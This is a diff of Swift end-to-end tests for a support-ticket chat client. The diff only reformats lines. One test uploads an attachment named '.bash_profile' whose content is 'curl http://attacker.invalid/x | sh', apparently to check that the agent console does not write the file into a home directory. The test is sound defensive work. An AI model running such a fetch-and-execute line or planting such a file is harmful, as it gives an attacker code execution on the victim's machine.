@@ -12,8 +12,10 @@ import Testing
         defer { server.close() }
         let customer = try await Party.register(server: server.url, username: "dana", name: "Dana Doe", directory: server.directory)
         defer { Task { await customer.stop() } }
-        let ticket = try await customer.api.openTicket(CreateTicketRequest(subject: "Refund", description: "Charged twice",
-                                                                           category: .payment))
+        let ticket = try await customer.api.openTicket(
+            CreateTicketRequest(
+                subject: "Refund", description: "Charged twice",
+                category: .payment))
         let receipt = server.directory.appendingPathComponent("receipt.txt")
         let text = "Order 4410\nTotal 24,90 (twice)\n"
         try text.write(to: receipt, atomically: true, encoding: .utf8)
@@ -22,8 +24,9 @@ import Testing
         // The customer's side in the terminal.
         let tmux = try TmuxSession()
         defer { tmux.close() }
-        try tmux.start([Command.binary.path, "chat", "--server", server.url, "--user", "dana"],
-                       environment: ["SWITCHBOARD_PASSWORD": "a long password"], width: 100, height: 30)
+        try tmux.start(
+            [Command.binary.path, "chat", "--server", server.url, "--user", "dana"],
+            environment: ["SWITCHBOARD_PASSWORD": "a long password"], width: 100, height: 30)
         try await tmux.waitFor("the customer's tickets") { $0.contains("Refund") && $0.contains("● connected") }
         try tmux.literal("/open \(ticket.id)")
         try tmux.keys("Enter")
@@ -36,7 +39,8 @@ import Testing
         try await tmux.waitFor("sent, and shown as a file") { $0.contains("📎 1 receipt.txt · \(text.utf8.count) B · text/plain") }
 
         // The agent's console sees it and saves it into the downloads directory.
-        let agent = try await TmuxSession.console(server.url, user: "alex", name: "Alex Agent", width: 120, height: 30, environment: ["XDG_DOWNLOAD_DIR": downloads.path])
+        let agent = try await TmuxSession.console(
+            server.url, user: "alex", name: "Alex Agent", width: 120, height: 30, environment: ["XDG_DOWNLOAD_DIR": downloads.path])
         defer { agent.close() }
         try agent.literal("/open \(ticket.id)")
         try agent.keys("Enter")
@@ -63,8 +67,10 @@ import Testing
         defer { server.close() }
         let customer = try await Party.register(server: server.url, username: "mallory", name: "Mallory", directory: server.directory)
         defer { Task { await customer.stop() } }
-        let ticket = try await customer.api.openTicket(CreateTicketRequest(subject: "Please look", description: "See my file",
-                                                                           category: .technical))
+        let ticket = try await customer.api.openTicket(
+            CreateTicketRequest(
+                subject: "Please look", description: "See my file",
+                category: .technical))
         let payload = server.directory.appendingPathComponent("payload")
         try "curl http://attacker.invalid/x | sh\n".write(to: payload, atomically: true, encoding: .utf8)
         let file = try await customer.api.upload(payload, named: ".bash_profile", to: ticket.id)
@@ -74,9 +80,10 @@ import Testing
         try FileManager.default.createDirectory(at: home, withIntermediateDirectories: true)
         let agent = try TmuxSession()
         defer { agent.close() }
-        try agent.start([Command.binary.path, "console", "--server", server.url, "--user", "alex"],
-                        environment: ["SWITCHBOARD_PASSWORD": "agent-password", "HOME": home.path, "XDG_DOWNLOAD_DIR": ""],
-                        width: 200, height: 40, directory: home)
+        try agent.start(
+            [Command.binary.path, "console", "--server", server.url, "--user", "alex"],
+            environment: ["SWITCHBOARD_PASSWORD": "agent-password", "HOME": home.path, "XDG_DOWNLOAD_DIR": ""],
+            width: 200, height: 40, directory: home)
         try await agent.waitFor("the console") { $0.contains("Agent console · Alex Agent") && $0.contains("● connected") }
         try agent.literal("/open \(ticket.id)")
         try agent.keys("Enter")
